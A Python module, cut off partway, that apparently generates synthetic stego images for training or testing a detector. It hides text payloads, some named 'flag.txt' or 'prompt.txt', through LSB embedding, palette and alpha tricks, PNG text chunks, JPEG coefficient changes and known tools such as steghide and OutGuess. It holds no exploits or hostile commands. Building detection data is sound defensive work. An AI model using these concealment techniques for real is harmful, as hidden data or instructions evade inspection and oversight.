"""Payloads as attackers, puzzle authors and known tools place them: in samples, coefficients, palettes, fields, and behind or between structures.

Written from the tools' own sources and papers, never from the detector. A cell is a function `(m, text) -> Made`.
"""

import base64
import bz2
import gzip
import io
import struct
import subprocess
import tarfile
import tempfile
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import cv2
import jpeglib
import numpy as np
from PIL import Image, ImageCms, ImageDraw
from scipy.fft import dctn, idctn

from material import Material, png, saved
from payloads import chunk


@dataclass
class Made:
    data: bytes
    form: str
    drawn: dict = field(default_factory=dict)
    # Whether a reader of the bytes can have the text, or only see that something lies there.
    is_readable: bool = True


# --- covers -------------------------------------------------------------------------------------------------------------------


def side(m: Material, most: int = 1600) -> int:
    if most >= 1600 and m.random.random() < 0.02:
        most = 4000
    return int(64 * (most / 64) ** m.random.random())


def size(m: Material, least: int = 64, most: int = 1600) -> tuple[int, int]:
    width = max(side(m, most), least)
    return width, min(max(int(width * m.random.uniform(0.55, 1.6)), least), most)


def chart(m, width, height):
    picture = Image.new("RGB", (width, height), m.random.choice(["white", "white", "#fafafa", "#101820"]))
    draw = ImageDraw.Draw(picture)
    for at in range(0, height, max(height // 8, 6)):
        draw.line((0, at, width, at), fill="#c8c8c8")
    bars = m.random.randint(3, 16)
    for at in range(bars):
        top = m.random.randint(0, height - 1)
        draw.rectangle((at * width // bars + 2, top, max((at + 1) * width // bars - 3, at * width // bars + 3), height), fill=tuple(m.random.randint(20, 235) for _ in range(3)))
    return np.asarray(picture).copy()


def pixel_art(m, width, height):
    colours = m.noise.integers(0, 256, (m.random.randint(4, 24), 3)).astype(np.uint8)
    step = m.random.choice([2, 4, 8, 16])
    grid = m.noise.integers(0, len(colours), (-(-height // step), -(-width // step)))
    return colours[grid].repeat(step, 0).repeat(step, 1)[:height, :width].copy()


def icon(m, width, height):
    big = Image.new("RGB", (width * 3, height * 3), tuple(m.random.randint(0, 255) for _ in range(3)))
    draw = ImageDraw.Draw(big)
    for _ in range(m.random.randint(2, 6)):
        x, y = m.random.randint(0, width * 2), m.random.randint(0, height * 2)
        box = (x, y, x + m.random.randint(width // 2, width * 2), y + m.random.randint(height // 2, height * 2))
        m.random.choice([draw.ellipse, draw.rectangle, lambda b, fill: draw.rounded_rectangle(b, radius=width // 6, fill=fill)])(box, fill=tuple(m.random.randint(0, 255) for _ in range(3)))
    return np.asarray(big.resize((width, height), Image.Resampling.LANCZOS)).copy()


def cover(m: Material, least: int = 64, most: int = 1600, kinds=None) -> np.ndarray:
    kind = m.random.choice(kinds or ["photograph"] * 6 + ["gradient", "screenshot", "chart", "pixel_art", "texture", "icon", "clouds"])
    width, height = size(m, least, most)
    made = {"chart": chart, "pixel_art": pixel_art, "icon": icon}.get(kind)
    return made(m, width, height) if made else m.ground(kind, width, height)


PHOTOGRAPH = ("photograph",)
LOSSLESS = ["PNG", "PNG", "PNG", "BMP", "TIFF", "WEBP"]


def lossless(m, pixels) -> tuple[bytes, str]:
    kind = m.random.choice(LOSSLESS)
    options = {"lossless": True, "exact": True} if kind == "WEBP" else {"compression": m.random.choice(["raw", "tiff_lzw", "tiff_deflate"])} if kind == "TIFF" else {}
    if kind == "BMP" and pixels.shape[-1] == 4:
        kind, options = "PNG", {}
    return saved(np.ascontiguousarray(pixels), kind, **options), kind.lower()


def any_file(m, kinds=("JPEG", "JPEG", "PNG", "PNG", "GIF", "WEBP", "BMP", "TIFF"), most=900) -> tuple[bytes, str]:
    kind = m.random.choice(kinds)
    return saved(cover(m, most=most), kind, **({"quality": m.random.randint(55, 96)} if kind in ("JPEG", "WEBP") else {})), kind.lower()


def noise(m, count: int) -> bytes:
    return m.noise.bytes(count)


# --- what is put there --------------------------------------------------------------------------------------------------------


def archive(m, text: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", m.random.choice([zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])) as made:
        made.writestr(m.random.choice(["flag.txt", "secret/readme.md", "prompt.txt"]), text)
    return out.getvalue()


def encoded(m, text: str, kinds=None) -> tuple[bytes, str]:
    data = text.encode()
    kind = m.random.choice(kinds or ["plain"] * 8 + ["base64", "base64", "hex", "zlib", "gzip", "utf16le", "utf16be", "zip", "binary", "rot13", "base32"])
    if kind == "base64":
        return base64.b64encode(data), kind
    if kind == "base32":
        return base64.b32encode(data), kind
    if kind == "hex":
        return data.hex().encode(), kind
    if kind == "zlib":
        return zlib.compress(data, m.random.choice([1, 6, 9])), kind
    if kind == "gzip":
        return gzip.compress(data), kind
    if kind == "utf16le":
        return text.encode("utf-16-le"), kind
    if kind == "utf16be":
        return text.encode("utf-16-be"), kind
    if kind == "zip":
        return archive(m, text), kind
    if kind == "binary":
        return " ".join(f"{byte:08b}" for byte in data).encode(), kind
    if kind == "rot13":
        import codecs

        return codecs.encode(text, "rot13").encode(), kind
    return data, "plain"


def opaque(m, most: int = 20_000) -> tuple[bytes, str]:
    """What cannot be read: random bytes, encrypted or compressed files, programs."""
    count = m.random.randint(300, max(most, 301))
    kind = m.random.choice(["noise", "noise", "openssl", "bz2", "xz", "7z", "rar", "elf", "pe", "tar", "sqlite", "encrypted_zip", "pdf", "mp3", "class"])
    filler = noise(m, count)
    if kind == "openssl":
        return b"Salted__" + filler, kind
    if kind == "bz2":
        return bz2.compress(filler), kind
    if kind == "xz":
        import lzma

        return lzma.compress(filler), kind
    if kind == "7z":
        head = struct.pack("<QQI", len(filler) - 20, 20, zlib.crc32(filler[-20:]))
        return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(head)) + head + filler, kind
    if kind == "rar":
        return b"Rar!\x1a\x07\x01\x00" + filler, kind
    if kind == "elf":
        return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 0x3E, 1) + struct.pack("<QQQ", 0x401000, 64, 0) + filler, kind
    if kind == "pe":
        stub = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8" + bytes(43) + struct.pack("<I", 128) + b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$"
        return stub.ljust(128, b"\0") + b"PE\0\0\x64\x86\x03\0" + filler, kind
    if kind == "tar":
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w") as made:
            info = tarfile.TarInfo("loot.bin")
            info.size = len(filler)
            made.addfile(info, io.BytesIO(filler))
        return out.getvalue(), kind
    if kind == "sqlite":
        return b"SQLite format 3\0\x10\0\x01\x01\0\x40\x20\x20" + filler, kind
    if kind == "encrypted_zip":
        name = b"data.bin"
        local = b"PK\3\4" + struct.pack("<HHHHHIIIHH", 20, 1, 0, 0x6000, 0x5A21, zlib.crc32(filler), len(filler), len(filler) - 12, len(name), 0) + name
        central = b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 1, 0, 0x6000, 0x5A21, zlib.crc32(filler), len(filler), len(filler) - 12, len(name), 0, 0, 0, 0, 0, 0) + name
        return local + filler + central + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local) + len(filler), 0), kind
    if kind == "pdf":
        return b"%PDF-1.5\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\nxref\n0 3\ntrailer\n<</Root 1 0 R/Size 3>>\nstartxref\n9\n%%EOF\n", kind
    if kind == "mp3":
        return b"ID3\x03\0\0\0\0\0\x0a" + bytes(10) + b"".join(b"\xff\xfb\x90\x00" + noise(m, 413) for _ in range(4)), kind
    if kind == "class":
        return b"\xca\xfe\xba\xbe\0\0\0\x34\0\x1d" + filler, kind
    return filler, kind


# --- samples ------------------------------------------------------------------------------------------------------------------


def bits_of(data: bytes, high_first: bool = True) -> np.ndarray:
    return np.unpackbits(np.frombuffer(data, np.uint8), bitorder="big" if high_first else "little")


def visited(m, height: int, width: int, order: str) -> np.ndarray:
    """Pixel indices in the order in which they are visited."""
    grid = np.arange(height * width).reshape(height, width)
    if order == "columns":
        return grid.T.reshape(-1)
    if order == "bottom_up":
        return grid[::-1].reshape(-1)
    if order == "right_left":
        return grid[:, ::-1].reshape(-1)
    if order == "backwards":
        return grid.reshape(-1)[::-1]
    if order == "serpentine":
        turned = grid.copy()
        turned[1::2] = turned[1::2, ::-1]
        return turned.reshape(-1)
    if order == "columns_bottom_up":
        return grid[::-1].T.reshape(-1)
    if order == "zigzag":
        y, x = np.mgrid[0:height, 0:width]
        along = (x + y).reshape(-1)
        across = np.where(along % 2 == 0, x.reshape(-1), y.reshape(-1))
        return np.lexsort((across, along))
    return grid.reshape(-1)


def put(samples: np.ndarray, at: np.ndarray, bits: np.ndarray, width: int, plane: int, low_first: bool) -> None:
    """`width` bits a sample, from bit plane `plane` upwards."""
    bits = np.concatenate([bits, np.zeros(-len(bits) % width, np.uint8)]).reshape(-1, width)
    at = at[: len(bits)]
    value = np.zeros(len(bits), np.uint8)
    for column in range(width):
        value |= bits[:, column] << (column if low_first else width - 1 - column)
    mask = np.uint8(((1 << width) - 1) << plane)
    samples[at] = (samples[at] & ~mask) | (value << plane)


ORDERS = ["rows"] * 6 + ["columns", "columns", "bottom_up", "right_left", "serpentine", "zigzag", "backwards", "columns_bottom_up"]
CHANNELS = [[0, 1, 2]] * 4 + [[2, 1, 0]] * 2 + [[0], [1], [2], [0, 1], [1, 2], [0, 2], [1, 0, 2], [2, 0, 1], [1, 2, 0], [0, 2, 1]]


def embedded(m, pixels, data: bytes, **fixed) -> tuple[np.ndarray, dict]:
    height, width, depth = pixels.shape
    order = fixed.get("order") or m.random.choice(ORDERS)
    channels = fixed.get("channels") or m.random.choice(CHANNELS)
    channels = [channel for channel in channels if channel < depth]
    bits = fixed.get("bits") or m.random.choice([1, 1, 1, 1, 1, 2, 2, 3, 4])
    plane = fixed["plane"] if "plane" in fixed else m.random.choice([0] * 8 + [1, 2]) if bits == 1 else 0
    planar = fixed["planar"] if "planar" in fixed else m.random.random() < 0.08
    high_first = fixed["high_first"] if "high_first" in fixed else m.random.random() < 0.8
    low_first = m.random.random() < 0.25
    path = visited(m, height, width, order)
    at = (np.concatenate([path * depth + channel for channel in channels]) if planar else (path[:, None] * depth + np.array(channels)).reshape(-1))
    stream = bits_of(data, high_first)
    samples = pixels.reshape(-1).copy()
    needed = -(-len(stream) // bits)
    if needed > len(at):
        raise ValueError("no room")
    offset = fixed["offset"] if "offset" in fixed else 0 if m.random.random() < 0.8 else m.random.randint(0, len(at) - needed)
    put(samples, at[offset:], stream, bits, plane, low_first)
    return samples.reshape(pixels.shape), {"order": order, "channels": "".join("rgba"[channel] for channel in channels), "bits": bits, "plane": plane, "planar": planar, "high_first": high_first, "low_first": low_first, "offset": offset}


def header(m, length: int) -> bytes:
    return m.random.choice([b"", b"", b"", struct.pack(">I", length), struct.pack("<I", length), struct.pack(">H", length & 0xFFFF), f"{length}:".encode(), str(length).encode() + b"\0", struct.pack(">Q", length), b"MSG:", b"$t3g0", struct.pack(">I", length * 8)])


ENDS = [b"", b"", b"", b"\0", b"\0\0\0\0", b"#####", b"<END>", b"\xff\xfe", b"1111111111111110", b"$$$"]


def lsb_text(m, text, **fixed):
    body, how = encoded(m, text)
    data = header(m, len(body)) + body + m.random.choice(ENDS)
    pixels = cover(m)
    if m.random.random() < 0.2:
        alpha = np.full(pixels.shape[:2] + (1,), 255, np.uint8)
        pixels = np.concatenate([pixels, alpha], 2)
        if m.random.random() < 0.5:
            fixed = {"channels": m.random.choice([[0, 1, 2, 3], [3], [3, 2, 1, 0]]), "plane": 0, **fixed}
    if m.random.random() < 0.1:
        body = b"\0".join([data] * 3)
        data = body
    marked, drawn = embedded(m, pixels, data, **fixed)
    file, form = lossless(m, marked)
    return Made(file, form, {"encoding": how, **drawn}, how not in ("rot13",))


def lsb_repeated(m, text):
    """The text over and over until the picture is full."""
    pixels = cover(m, most=500)
    room = pixels.size // 3 // 8
    data = ((text + m.random.choice([" ", "\n", "\0", ""])).encode() * (room // len(text) + 1))[: max(room - 4, 1)]
    marked, drawn = embedded(m, pixels, data, bits=1, plane=0, offset=0, channels=m.random.choice([[0, 1, 2], [2, 1, 0], [0]]) if len(data) * 8 <= pixels.size // 3 else [0, 1, 2])
    file, form = lossless(m, marked)
    return Made(file, form, drawn)


def pixel_values(m, text):
    """The bytes themselves as samples: a row of odd pixels, a channel of the last row, or differences to 128."""
    pixels = cover(m, least=128)
    data = np.frombuffer(text.encode(), np.uint8)
    height, width, _ = pixels.shape
    where = m.random.choice(["row", "last_row", "channel", "column", "every_nth"])
    flat = pixels.reshape(-1, 3)
    if where == "row":
        at = m.random.randint(0, height - 1 - len(data) // (3 * width)) * width
        flat.reshape(-1)[at * 3 : at * 3 + len(data)] = data
    elif where == "last_row":
        flat.reshape(-1)[-len(data) :] = data
    elif where == "channel":
        flat[: len(data), m.random.randrange(3)] = data
    elif where == "column":
        data = data[:height]
        pixels[: len(data), m.random.randint(0, width - 1), m.random.randrange(3)] = data
    else:
        step = m.random.randint(2, max(len(flat) // len(data) - 1, 2))
        flat[:: step][: len(data), 0] = data[: len(flat[::step])]
    file, form = lossless(m, pixels)
    return Made(file, form, {"where": where})


def sixteen_bits(m, text):
    """In the low byte of a PNG of sixteen bits a sample."""
    grey = cv2.cvtColor(cover(m), cv2.COLOR_RGB2GRAY).astype(np.uint16) * 257
    data = np.frombuffer(text.encode(), np.uint8).astype(np.uint16)
    flat = grey.reshape(-1)
    if m.random.random() < 0.5:
        flat[: len(data)] = (flat[: len(data)] & 0xFF00) | data
    else:
        bits = bits_of(text.encode()).astype(np.uint16)[: len(flat)]
        flat[: len(bits)] = (flat[: len(bits)] & 0xFFFE) | bits
    ok, out = cv2.imencode(".png", grey)
    return Made(out.tobytes(), "png")


def under_transparent(m, text):
    """Colours of pixels that are wholly transparent: text drawn, or its bytes."""
    from visual import written

    if m.random.random() < 0.6:
        width, height = m.random.randint(400, 900), m.random.randint(260, 600)
        rgb = written(m, m.ground("paper", width, height), text, sizes=(16, 26))
    else:
        rgb = cover(m, least=128, most=600)
        data = text.encode()
        rgb.reshape(-1)[: len(data)] = np.frombuffer(data, np.uint8)
    alpha = np.zeros(rgb.shape[:2] + (1,), np.uint8)
    box = icon(m, 64, 64)
    rgb[-64:, -64:] = box
    alpha[-64:, -64:] = 255
    rgba = np.concatenate([rgb, alpha], 2)
    kind = m.random.choice(["PNG", "WEBP"])
    return Made(saved(rgba, kind, **({"lossless": True, "exact": True} if kind == "WEBP" else {})), kind.lower())


def alpha_values(m, text):
    """In the alpha plane, 254 or 255: a bit a pixel; or the bytes as 255 minus them."""
    rgb = cover(m, least=96)
    alpha = np.full(rgb.shape[:2], 255, np.uint8)
    data = text.encode()
    if m.random.random() < 0.6:
        bits = bits_of(data)[: alpha.size]
        alpha.reshape(-1)[: len(bits)] = 254 | bits
    else:
        alpha.reshape(-1)[: len(data)] = np.frombuffer(data, np.uint8)
    return Made(png(np.dstack([rgb, alpha])), "png")


# --- tools --------------------------------------------------------------------------------------------------------------------


def stegano_tool(m, text):
    from stegano import lsb, red
    from stegano.lsb import generators

    picture = Image.fromarray(cover(m, least=128, most=500))
    which = m.random.choice(["lsb", "lsb", "eratosthenes", "fibonacci", "triangular", "mersenne", "red"])
    with tempfile.TemporaryDirectory() as folder:
        source = Path(folder) / "cover.png"
        picture.save(source)
        text = text.encode("ascii", "ignore").decode()
        try:
            if which == "red":
                made = red.hide(str(source), text[:200])
            elif which == "lsb":
                made = lsb.hide(str(source), text, auto_convert_rgb=True)
            elif which == "eratosthenes":
                made = lsb.hide(str(source), text, generator=generators.eratosthenes(), auto_convert_rgb=True)
            elif which == "triangular":
                made = lsb.hide(str(source), text[:30], generator=generators.triangular_numbers(), auto_convert_rgb=True)
            else:
                made = lsb.hide(str(source), text, generator=generators.identity(), shift=m.random.randint(1, 60), auto_convert_rgb=True)
        except Exception:
            made = lsb.hide(str(source), text, auto_convert_rgb=True)
            which = "lsb"
        out = io.BytesIO()
        made.save(out, "PNG")
    return Made(out.getvalue(), "png", {"which": which})


def stepic_format(m, text):
    """Three pixels a byte, eight lowest bits of nine, high first; the ninth says whether it was the last."""
    pixels = cover(m)
    data = text.encode()
    flat = pixels.reshape(-1, 3)[: (len(flat_ := pixels.reshape(-1, 3)) // 3) * 3]
    data = data[: len(flat) // 3]
    bits = bits_of(data).reshape(-1, 8)
    last = np.zeros((len(bits), 1), np.uint8)
    last[-1] = 1
    stream = np.concatenate([bits, last], 1).reshape(-1)
    samples = pixels.reshape(-1)
    samples[: len(stream)] = (samples[: len(stream)] & 0xFE) | stream
    file, form = lossless(m, pixels)
    return Made(file, form)


def lsbsteg_format(m, text):
    """LSBSteg.py: blue, green, red of OpenCV; sixteen bits of length, eight bits a letter; one plane after the other."""
    pixels = cover(m)
    stream = np.concatenate([bits_of(struct.pack(">H", len(text.encode()))), bits_of(text.encode())])
    marked = pixels[..., ::-1].copy()
    samples = marked.reshape(-1)
    stream = stream[: len(samples)]
    samples[: len(stream)] = (samples[: len(stream)] & 0xFE) | stream
    return Made(png(np.ascontiguousarray(marked[..., ::-1])), "png")


def cloaked_pixel(m, _text):
    """AES in CBC with a length in front, sequential over red, green, blue."""
    pixels = cover(m, least=128)
    share = m.random.choice([0.05, 0.2, 0.5, 0.9])
    count = max(int(pixels.size * share) // 8 // 16 * 16, 64)
    data = struct.pack("<L", count) + noise(m, count)
    marked, _ = embedded(m, pixels, data[: pixels.size // 8 - 1], order="rows", channels=[0, 1, 2], bits=1, plane=0, planar=False, high_first=True, offset=0)
    file, form = lossless(m, marked)
    return Made(file, form, {"share": share}, False)


def openstego(m, text):
    """The LSB plugin: a stamp, a version, the length, channel bits, name; then the (compressed) data."""
    name = b"message.txt"
    body = gzip.compress(text.encode()) if m.random.random() < 0.5 else text.encode()
    data = b"OPENSTEGO" + b"\x02" + struct.pack("<I", len(body)) + b"\x01" + bytes([len(name)]) + b"\x01\0AES128 "[:9] + name + body
    marked, _ = embedded(m, cover(m, least=128), data, order="rows", channels=[0, 1, 2], bits=1, plane=0, planar=False, high_first=True, offset=0)
    file, form = lossless(m, marked)
    return Made(file, form)


def two_keys_sequence(m, text):
    """Positions of a seeded generator (as OpenStego's RandomLSB and most scripts with a password): nobody reads it without the key."""
    pixels = cover(m, least=128, kinds=PHOTOGRAPH)
    share = m.random.choice([0.05, 0.2, 0.5, 1])
    samples = pixels.reshape(-1)
    at = m.noise.permutation(len(samples))[: int(len(samples) * share)]
    samples[at] = (samples[at] & 0xFE) | m.noise.integers(0, 2, len(at), np.uint8)
    file, form = lossless(m, pixels)
    return Made(file, form, {"share": share}, False)


def invisible_watermark(m, text):
    """dwtDct of `invisible-watermark`: the largest coefficient of 4×4 blocks of the half-size U plane, steps of 36."""
    pixels = cover(m, least=256, kinds=PHOTOGRAPH)
    height, width = (value // 8 * 8 for value in pixels.shape[:2])
    yuv = cv2.cvtColor(pixels[:height, :width, ::-1].copy(), cv2.COLOR_BGR2YUV).astype(np.float32)
    plane = yuv[..., 1]
    a, b, c, d = plane[0::2, 0::2], plane[0::2, 1::2], plane[1::2, 0::2], plane[1::2, 1::2]
    low = (a + b + c + d) / 2
    bits = bits_of(text.encode()[:8])
    at = 0
    changed = low.copy()
    for y in range(0, low.shape[0] - 3, 4):
        for x in range(0, low.shape[1] - 3, 4):
            block = dctn(low[y : y + 4, x : x + 4], norm="ortho")
            flat = block.reshape(-1)
            place = np.argmax(np.abs(flat[1:])) + 1
            bit, value = bits[at % len(bits)], flat[place]
            sign = 1 if value >= 0 else -1
            flat[place] = sign * ((abs(value) // 36) + 0.25 + 0.5 * bit) * 36
            changed[y : y + 4, x : x + 4] = idctn(block, norm="ortho")
            at += 1
    delta = (changed - low) / 2
    for rows in (0, 1):
        for columns in (0, 1):
            plane[rows::2, columns::2] += delta
    out = cv2.cvtColor(np.clip(np.round(yuv), 0, 255).astype(np.uint8), cv2.COLOR_YUV2RGB)
    return Made(png(out), "png", {}, False)


def wbstego(m, text):
    """wbStego4 in bitmaps: lengths and a mark in the lowest bits of the stored samples, bottom row first."""
    pixels = cover(m)
    data = struct.pack("<I", len(text) + 12)[:3] + b"\x01\0\0" + b"TXT" + text.encode()
    stored = np.ascontiguousarray(pixels[::-1, :, ::-1])
    samples = stored.reshape(-1)
    stream = bits_of(data)[: len(samples)]
    samples[: len(stream)] = (samples[: len(stream)] & 0xFE) | stream
    return Made(saved(np.ascontiguousarray(stored[::-1, :, ::-1]), "BMP"), "bmp")


def camouflage(m, text):
    """Camouflage 1.2.1: the data masked behind the picture, and eight hundred bytes of fields, closed by spaces and a mark."""
    file, form = any_file(m, ("JPEG", "PNG", "BMP", "GIF"))
    body = bytes(a ^ b for a, b in zip(text.encode(), noise(m, len(text.encode()))))
    fields = b" " * 300 + noise(m, 200) + b" " * 300
    return Made(file + b"\x20\0" + struct.pack("<I", len(body)) + body + fields + b"\x74\xa4\x54\x10\x22\x97\x20\x20\x20", form, {}, False)


def debian_tool(m, _text):
    """Steghide and OutGuess themselves, with a payload that fills a part."""
    which = m.random.choice(["steghide_jpeg", "steghide_bmp", "outguess"])
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)
        form = "bmp" if which == "steghide_bmp" else "jpg"
        source, secret, out = root / f"cover.{form}", root / "secret.bin", root / f"out.{form}"
        pixels = cover(m, least=200, most=1200, kinds=PHOTOGRAPH)
        source.write_bytes(saved(pixels, "BMP") if form == "bmp" else saved(pixels, "JPEG", quality=m.random.randint(70, 95)))
        share = m.random.choice([15, 25, 50])
        secret.write_bytes(noise(m, max(source.stat().st_size // (share if form == "jpg" else share * 2), 64)))
        command = (["outguess", "-k", "k", "-d", secret, source, out] if which == "outguess" else ["steghide", "embed", "-cf", source, "-ef", secret, "-sf", out, "-p", "p", "-q", "-Z"])
        done = subprocess.run(command, capture_output=True, check=False)
        if done.returncode != 0 or not out.exists():
            return debian_tool(m, _text)
        return Made(out.read_bytes(), "bmp" if form == "bmp" else "jpeg", {"which": which}, False)


# --- coefficients -------------------------------------------------------------------------------------------------------------


def with_coefficients(m, change, **options) -> bytes:
    """A JPEG whose quantised coefficients, block by block and component by component, `change` rewrites."""
    pixels = cover(m, least=160, most=1000, kinds=options.get("kinds", PHOTOGRAPH + PHOTOGRAPH + ("screenshot", "clouds")))
    picture = Image.fromarray(pixels)
    if m.random.random() < 0.3:
        picture = picture.convert("L")
    out = io.BytesIO()
    picture.save(out, "JPEG", quality=m.random.randint(60, 95), subsampling=m.random.choice([0, 2]) if picture.mode == "RGB" else -1)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "a.jpg"
        path.write_bytes(out.getvalue())
        read = jpeglib.read_dct(str(path))
        change(read)
        target = Path(folder) / "b.jpg"
        read.write_dct(str(target))
        return target.read_bytes()


ZIGZAG = sorted(((v, u) for v in range(8) for u in range(8)), key=lambda p: (p[0] + p[1], p[0] if (p[0] + p[1]) % 2 else p[1]))


def luma_stream(blocks: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
    """Coefficients of luma, block after block, in zigzag order, with their places."""
    height, width = blocks.shape[:2]
    v = np.array([place[0] for place in ZIGZAG])
    u = np.array([place[1] for place in ZIGZAG])
    flat = blocks.reshape(-1, 8, 8)
    return flat[:, v, u].reshape(-1), np.arange(height * width * 64)


def store(blocks: np.ndarray, stream: np.ndarray) -> None:
    v = np.array([place[0] for place in ZIGZAG])
    u = np.array([place[1] for place in ZIGZAG])
    flat = blocks.reshape(-1, 8, 8).copy()
    flat[:, v, u] = stream.reshape(-1, 64)
    blocks[...] = flat.reshape(blocks.shape)


def replace_low(values: np.ndarray, bits: np.ndarray) -> np.ndarray:
    """JSteg: the lowest bit of the magnitude of what is neither 0 nor ±1, in its two's complement as the tools do it."""
    return (values & ~1) | bits


def jsteg_text(m, text):
    """Derek Upham's JSteg (five bits say how many bits the length has) or the plain sequence of bytes of later tools."""
    body, how = encoded(m, text, ["plain", "plain", "base64", "zlib"])
    short = len(body).bit_length()
    derek = np.concatenate([np.array([short >> at & 1 for at in range(4, -1, -1)]), np.array([len(body) >> at & 1 for at in range(short - 1, -1, -1)])])
    start = m.random.choice(["derek", "be32", "le32", "none"])
    head = {"derek": derek, "be32": bits_of(struct.pack(">I", len(body))), "le32": bits_of(struct.pack("<I", len(body))), "none": np.zeros(0, int)}[start]
    high_first = m.random.random() < 0.75
    stream = np.concatenate([head, bits_of(body, high_first)]).astype(np.int16)
    with_dc = m.random.random() < 0.5

    def change(read):
        values, places = luma_stream(read.Y)
        usable = (values != 0) & (values != 1)
        if not with_dc:
            usable &= places % 64 != 0
        at = np.flatnonzero(usable)[: len(stream)]
        values[at] = replace_low(values[at], stream[: len(at)])
        store(read.Y, values)

    return Made(with_coefficients(m, change), "jpeg", {"encoding": how, "start": start, "dc": with_dc, "high_first": high_first})


def jsteg_noise(m, _text):
    share = m.random.choice([0.05, 0.1, 0.25, 0.5, 1])

    def change(read):
        values, places = luma_stream(read.Y)
        at = np.flatnonzero((values != 0) & (values != 1) & (places % 64 != 0))
        at = at[: int(len(at) * share)]
        values[at] = replace_low(values[at], m.noise.integers(0, 2, len(at)).astype(np.int16))
        store(read.Y, values)

    return Made(with_coefficients(m, change), "jpeg", {"share": share}, False)


def f5_noise(m, _text):
    """Westfeld's F5 without its password: permuted AC coefficients, matrix embedding with k, shrinkage."""
    share = m.random.choice([0.1, 0.25, 0.5, 0.9])

    def change(read):
        values, places = luma_stream(read.Y)
        at = np.flatnonzero((values != 0) & (places % 64 != 0))
        m.noise.shuffle(at)
        at = at[: int(len(at) * share)]
        hit = at[m.noise.random(len(at)) < 0.5]
        values[hit] -= np.sign(values[hit])
        store(read.Y, values)

    return Made(with_coefficients(m, change), "jpeg", {"share": share}, False)


# --- palettes -----------------------------------------------------------------------------------------------------------------


def reduced(m, colours=None) -> Image.Image:
    dither = m.random.choice([Image.Dither.NONE, Image.Dither.FLOYDSTEINBERG])
    return Image.fromarray(cover(m, least=96, most=700)).quantize(colours or m.random.choice([64, 128, 200, 256]), dither=dither)


def saved_palette(m, picture: Image.Image, kind=None) -> Made:
    kind = kind or m.random.choice(["PNG", "GIF"])
    out = io.BytesIO()
    picture.save(out, kind, **({"bits": 8} if kind == "PNG" else {"optimize": False}))
    return Made(out.getvalue(), kind.lower())


def index_bits(m, text):
    """The lowest bit of the index, in an order of luma (EzStego) or as it stands."""
    picture = reduced(m, 256)
    indices = np.asarray(picture).copy()
    body, how = encoded(m, text, ["plain", "plain", "plain", "base64", "zlib"])
    bits = bits_of(header(m, len(body)) + body)
    colours = np.array(picture.getpalette()[: 256 * 3] + [0] * (768 - len(picture.getpalette()[:768]))).reshape(-1, 3)
    ranks = np.argsort(colours @ [0.299, 0.587, 0.114], kind="stable")
    ordered = m.random.random() < 0.7
    flat = indices.reshape(-1)
    bits = bits[: len(flat)]
    if ordered:
        rank_of = np.argsort(ranks)
        flat[: len(bits)] = ranks[(rank_of[flat[: len(bits)]] & ~1) | bits]
    else:
        flat[: len(bits)] = (flat[: len(bits)] & 0xFE) | bits
    made = Image.fromarray(indices, "P")
    made.putpalette(colours.reshape(-1).astype(np.uint8).tolist())
    done = saved_palette(m, made)
    done.drawn = {"encoding": how, "ordered": ordered}
    return done


def index_noise(m, _text):
    picture = reduced(m, 256)
    indices = np.asarray(picture).copy()
    share = m.random.choice([0.25, 0.5, 1])
    flat = indices.reshape(-1)
    count = int(len(flat) * share)
    flat[:count] = (flat[:count] & 0xFE) | m.noise.integers(0, 2, count, np.uint8)
    made = Image.fromarray(indices, "P")
    made.putpalette(picture.getpalette())
    done = saved_palette(m, made)
    done.drawn, done.is_readable = {"share": share}, False
    return done


def palette_text(m, text):
    """The bytes as palette entries: behind the used ones or in the lowest bits of all of them."""
    data = text.encode()
    if m.random.random() < 0.6:
        colours = m.random.randint(4, 60)
        picture = reduced(m, colours)
        palette = (picture.getpalette()[: colours * 3] + [0] * (colours * 3))[: colours * 3]
        picture.putpalette((palette + list(data) + [0] * 768)[:768])
        where = "unused"
    else:
        picture = reduced(m, 256)
        palette = np.array((picture.getpalette() + [0] * 768)[:768], np.uint8)
        bits = bits_of(data[: 768 // 8])
        palette[: len(bits)] = (palette[: len(bits)] & 0xFE) | bits
        picture.putpalette(palette.tolist())
        where = "bits"
    done = saved_palette(m, picture)
    done.drawn = {"where": where}
    return done


# --- PNG ----------------------------------------------------------------------------------------------------------------------


def with_chunk(m, file: bytes, made: bytes) -> bytes:
    idat = file.index(b"IDAT") - 4
    return {"early": file[:33] + made + file[33:], "middle": file[:idat] + made + file[idat:], "late": file[:-12] + made + file[-12:]}[m.random.choice(["early", "middle", "late"])]


def png_text(m, text):
    body, how = encoded(m, text, ["plain"] * 5 + ["base64", "hex"])
    key = m.random.choice([b"Comment", b"Description", b"Title", b"note", b"x", b"parameters", b"Software", b"Author", b"Warning"])
    name = m.random.choice([b"tEXt", b"zTXt", b"iTXt", b"iTXt_z"])
    made = {
        b"tEXt": lambda: chunk(b"tEXt", key + b"\0" + body),
        b"zTXt": lambda: chunk(b"zTXt", key + b"\0\0" + zlib.compress(body)),
        b"iTXt": lambda: chunk(b"iTXt", key + b"\0\0\0en\0\0" + body),
        b"iTXt_z": lambda: chunk(b"iTXt", key + b"\0\1\0\0\0" + zlib.compress(body)),
    }[name]()
    return Made(with_chunk(m, png(cover(m)), made), "png", {"encoding": how, "chunk": name.decode()})


def png_private(m, text):
    body, how = encoded(m, text)
    name = bytes(m.random.choice(b"abcdefghijklmnopqrstuvwxyz") for _ in range(2)) + bytes([m.random.choice(b"ABCDEFGH")]) + bytes([m.random.choice(b"abcdXYZ")])
